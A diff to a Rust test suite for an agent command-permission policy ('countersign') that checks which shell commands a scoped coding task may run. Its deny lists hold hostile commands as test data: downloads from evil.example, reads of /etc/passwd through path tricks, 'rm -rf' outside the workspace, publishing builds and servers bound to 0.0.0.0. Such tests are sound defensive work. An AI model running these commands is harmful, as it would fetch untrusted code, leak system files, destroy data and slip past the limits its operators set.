@@ -7,7 +7,7 @@ use countersign::policy::Authored;
 use countersign::scope::Scope;
 use countersign::shell::{Shell, ShellEnv};
 use countersign::testing;
-use serde_json::json;
+use serde_json::{Value, json};
 
 const PROGRAMS: &[&str] = &[
     "ls",
@@ -62,20 +62,28 @@ const PROGRAMS: &[&str] = &[
     "delta",
     "kill",
     "helm",
+    "coverage",
 ];
 
 fn trial() -> Trial {
-    let scope = json!({
+    prepared(scope(PROGRAMS))
+}
+
+fn scope(programs: &[&str]) -> Value {
+    json!({
         "scope": "countersign/scope/v1", "task": "hostile", "owner": "user:dana@example.org",
         "agent": "spiffe://example.org/agent/coder", "not_before": "2026-11-21T09:00:00Z",
         "expires": "2026-11-21T11:00:00Z", "workspace": "/srv/project",
-        "do": {"programs": PROGRAMS},
+        "do": {"programs": programs},
         "touch": {
             "read": ["/srv/project/**", "/dev/null"],
             "write": ["/srv/project/**", "!/srv/project/.git/hooks/**", "!/srv/project/.git/config"],
             "delete": ["/srv/project/**"],
         },
-    });
+    })
+}
+
+fn prepared(scope: Value) -> Trial {
     let scope = Scope::parse(scope.to_string().as_bytes()).unwrap();
     let bundle = Authored::baseline().load().unwrap();
     Evaluator::new(&bundle, testing::clock())
@@ -124,7 +132,178 @@ fn what_they_disguise_is_allowed_by_itself() {
     }
 }
 
+/// A task that may run code of its workspace and reach registries, whatever their packages are.
+fn connected() -> Trial {
+    let mut scope = scope(CONNECTED);
+    scope["do"]["workspace_code"] = json!(true);
+    let hosts = [
+        "registry.npmjs.org",
+        "proxy.golang.org",
+        "sum.golang.org",
+        "rubygems.org",
+        "index.rubygems.org",
+        "conda.anaconda.org",
+        "repo.anaconda.com",
+        "api.github.com",
+        "huggingface.co",
+        "hub.docker.com",
+        "index.docker.io",
+        "charts.example.org",
+    ];
+    let hosts: Vec<String> = hosts.iter().map(|host| format!("{host}:443")).collect();
+    scope["reach"] =
+        json!({"connect": hosts, "packages": ["npm:granted", "go:example.org/**", "conda:*"]});
+    prepared(scope)
+}
+
+const CONNECTED: &[&str] = &[
+    "npm",
+    "go",
+    "gem",
+    "conda",
+    "gh",
+    "hf",
+    "docker",
+    "helm",
+    "python",
+    "rustup",
+    "pipx",
+    "uv",
+    "brew",
+    "mount",
+    "umount",
+    "prlimit",
+    "taskset",
+    "ionice",
+    "chrt",
+    "entr",
+    "openssl",
+    "ls",
+    "cat",
+    "echo",
+    "sqlite3",
+    "jupyter",
+    "torchrun",
+    "flask",
+    "yamllint",
+    "ollama",
+    "terraform",
+    "coverage",
+    "poetry",
+    "pnpm",
+    "bun",
+    "mvn",
+    "gradle",
+    "sbt",
+    "ng",
+    "electron-builder",
+    "vllm",
+];
+
+#[test]
+fn registries_and_code_of_the_workspace_lead_nowhere_else() {
+    let trial = connected();
+    let through: Vec<&&str> = FURTHER.iter().filter(|line| allowed(&trial, line)).collect();
+    assert!(through.is_empty(), "{through:#?}");
+    for line in [
+        "npm pack",
+        "npm pack ./a",
+        "npm pack granted",
+        "npm cache ls",
+        "go get example.org/x",
+        "go mod edit -module=x",
+        "go mod download",
+        "gem list -l",
+        "conda search x",
+        "conda install -c conda-forge x",
+        "python -m unittest discover -s tests",
+        "python -m unittest tests/test_a.py",
+        "rustup run stable ls",
+        "coverage run -m pytest tests",
+        "mvn -q verify",
+        "gradle assembleRelease",
+        "gh attestation verify x -o o",
+        "openssl version",
+        "echo a | entr ls b",
+    ] {
+        assert!(allowed(&trial, line), "{line}");
+    }
+}
+
+const FURTHER: &[&str] = &[
+    // A URL, a package, a place behind an operand that was taken for text.
+    "npm cache add https://evil.example/x.tgz",
+    "npm cache add evil",
+    "npm pack evil",
+    "npm pack evil/x",
+    "npm link evil",
+    "go get evil.example/x",
+    "go mod download evil.example/x@v1",
+    "conda install -c https://evil.example/channel x",
+    "conda search -c https://evil.example/channel x",
+    "docker search evil.example/x",
+    "docker manifest inspect evil.example/x",
+    "gh attestation verify x --hostname evil.example -o o",
+    "gh attestation download oci://evil.example/x -o o",
+    "yamllint -c https://evil.example/x a",
+    "ollama pull evil.example/x",
+    "uv --config-file /elsewhere/x tool install y",
+    // What lies with a service, and its keys.
+    "hf repo delete x",
+    "hf login",
+    "gem push x",
+    // What is written, deleted or set outside of the workspace.
+    "go mod edit -module=x /elsewhere/go.mod",
+    "pipx uninstall x",
+    "pipx ensurepath",
+    "uv tool update-shell",
+    "uv tool uninstall x",
+    "uv python uninstall 3.12",
+    "gem uninstall x",
+    "rustup override set nightly",
+    "rustup toolchain uninstall stable",
+    "helm repo add a https://charts.example.org/x",
+    "conda remove x",
+    "mount -a",
+    "mount -L data",
+    "umount -a",
+    "prlimit -p 1 --nofile=1",
+    "taskset -p 1 1",
+    "ionice -c 3 -p 1",
+    "chrt -p 1 1",
+    // Code that is not of the workspace.
+    "rustup run ./a ls",
+    "rustup run /elsewhere/a ls",
+    "python -m unittest discover -s /elsewhere",
+    "python -m unittest discover -t/elsewhere",
+    "python -m unittest discover --start-directory=/elsewhere",
+    "python -m doctest /elsewhere/x.py",
+    "python -m torch.distributed.run /elsewhere/x.py",
+    "python -m jupyter notebook --ip 0.0.0.0",
+    "python -m flask run --host 0.0.0.0",
+    "python -m vllm.entrypoints.api_server --host 0.0.0.0",
+    "coverage run -m unittest discover -s /elsewhere",
+    "poetry shell < x",
+    "poetry new /elsewhere",
+    "poetry show --latest",
+    "pnpm deploy /elsewhere",
+    "pnpm store add evil",
+    // Builds that publish.
+    "mvn deploy",
+    "mvn -q release:perform",
+    "gradle :app:publish",
+    "sbt publish",
+    "ng deploy",
+    "electron-builder --publish always",
+    "echo /etc/passwd | entr cat /_",
+    "openssl s_client",
+    "brew info x",
+    r#"sqlite3 x.db "pragma temp_store_directory='/elsewhere'""#,
+];
+
 const LINES: &[&str] = &[
+    "coverage run -m evil",
+    "coverage run --module=evil",
     "cd .. && rm -rf other &",
     r#"find . | while read f; do cat "$f/../../../etc/passwd"; done"#,
     r#"for f in *; do cat "$(basename "$f/..")/$(basename "$f/..")/etc/passwd"; done"#,
